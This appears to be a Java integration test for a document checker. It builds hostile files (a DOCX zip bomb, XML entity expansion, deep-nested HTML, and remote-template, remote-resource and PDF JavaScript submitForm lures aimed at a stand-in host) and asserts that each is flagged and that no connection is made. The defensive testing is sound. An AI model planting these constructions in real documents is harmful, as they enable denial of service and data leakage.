package io.github.nianshen.it;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Files made to do harm amid good ones: they are named, the others are checked, nobody is asked.
 */
class HostileFileIT {
  private static final Path READ = Path.of("testdata", "read").toAbsolutePath();
  private static final String ELSEWHERE = "http://elsewhere.invalid/";
  private static final int GOOD = 100;

  @TempDir Path folder;

  private static Map<String, byte[]> parts(Path file) throws IOException {
    Map<String, byte[]> parts = new TreeMap<>();
    try (var zip = new ZipInputStream(Files.newInputStream(file))) {
      for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
        parts.put(entry.getName(), zip.readAllBytes());
      }
    }
    return parts;
  }

  private static byte[] zip(Map<String, byte[]> parts) throws IOException {
    var bytes = new ByteArrayOutputStream();
    try (var zip = new ZipOutputStream(bytes)) {
      for (Map.Entry<String, byte[]> part : parts.entrySet()) {
        zip.putNextEntry(new ZipEntry(part.getKey()));
        zip.write(part.getValue());
        zip.closeEntry();
      }
    }
    return bytes.toByteArray();
  }

  private Path file(String name, byte[] bytes) throws IOException {
    Path file = folder.resolve(name);
    Files.createDirectories(file.getParent());
    return Files.write(file, bytes);
  }

  @Test
  void oneHundredGoodFilesAreCheckedAndEachHostileOneIsNamed() throws IOException {
    for (int i = 0; i < GOOD; i++) {
      String extension = new String[] {"docx", "pdf", "html", "txt"}[i % 4];
      byte[] good = Files.readAllBytes(READ.resolve("clean." + extension));
      file("in/" + i + "." + extension, good);
    }
    Map<String, byte[]> bomb = parts(READ.resolve("clean.docx"));
    var large = new byte[400 << 20];
    Arrays.fill(large, (byte) ' ');
    bomb.put("word/document.xml", large);
    file("in/bomb.docx", zip(bomb));
    Map<String, byte[]> entity = parts(READ.resolve("clean.docx"));
    String own =
        "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;\">]><x>&b;</x>";
    entity.put("word/document.xml", own.getBytes(UTF_8));
    file("in/entity.docx", zip(entity));
    byte[] pdf = Files.readAllBytes(READ.resolve("clean.pdf"));
    file("in/cut.pdf", Arrays.copyOf(pdf, 300));
    file("in/deep.html", ("<div>".repeat(100_000) + "甲").getBytes(UTF_8));
    file("in/noise.doc", Arrays.copyOf(new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11}, 4096));
    Jar.Ended run = Jar.in(folder).run("in", "--lang", "en");
    assertEquals(3, run.code(), run::toString);
    assertTrue(run.err().contains("105 files: 100 passed"), run.err());
    for (String name :
        new String[] {"bomb.docx", "entity.docx", "cut.pdf", "deep.html", "noise.doc"}) {
      assertTrue(run.out().contains("in/" + name), name);
    }
  }

  /** Every connection of the program goes by way of this test, which counts them. */
  @Test
  void nobodyIsAskedForAnything() throws IOException, InterruptedException {
    Map<String, byte[]> docx = parts(READ.resolve("clean.docx"));
    String target = "Target=\"" + ELSEWHERE + "a.dotm\" TargetMode=\"External\"";
    String type = "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    String relations =
        "<Relationship Id=\"x1\" "
            + type
            + "attachedTemplate\" "
            + target
            + "/>"
            + "<Relationship Id=\"x2\" "
            + type
            + "image\" "
            + target
            + "/></Relationships>";
    docx.computeIfPresent(
        "word/_rels/document.xml.rels",
        (name, old) ->
            new String(old, UTF_8).replace("</Relationships>", relations).getBytes(UTF_8));
    file("in/a.docx", zip(docx));
    String html = Files.readString(READ.resolve("clean.html"));
    String asks =
        "<link rel=stylesheet href=%1$sa.css><base href=%1$s><img src=%1$sa.png><iframe src=%1$s></iframe>"
            .formatted(ELSEWHERE);
    file("in/a.html", html.replace("<body>", "<body>" + asks).getBytes(UTF_8));
    var pdf = new ByteArrayOutputStream();
    try (var document = new PDDocument()) {
      document.addPage(new PDPage());
      var script = new PDActionJavaScript("this.submitForm('" + ELSEWHERE + "')");
      document.getDocumentCatalog().setOpenAction(script);
      document.save(pdf);
    }
    file("in/a.pdf", pdf.toByteArray());
    var asked = new AtomicInteger();
    Thread counting;
    try (var server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
      counting = new Thread(() -> count(server, asked));
      counting.start();
      String here = "-DsocksProxyHost=127.0.0.1 -DsocksProxyPort=" + server.getLocalPort();
      Jar.Ended run = Jar.in(folder).with("JDK_JAVA_OPTIONS", here).run("in", "--lang", "en");
      assertTrue(run.err().contains("3 files: 2 passed"), run.err());
    }
    counting.join();
    assertEquals(0, asked.get());
  }

  private static void count(ServerSocket server, AtomicInteger asked) {
    try {
      while (true) {
        Socket one = server.accept();
        asked.incrementAndGet();
        one.close();
      }
    } catch (IOException closed) {
      // The run has ended.
    }
  }
}
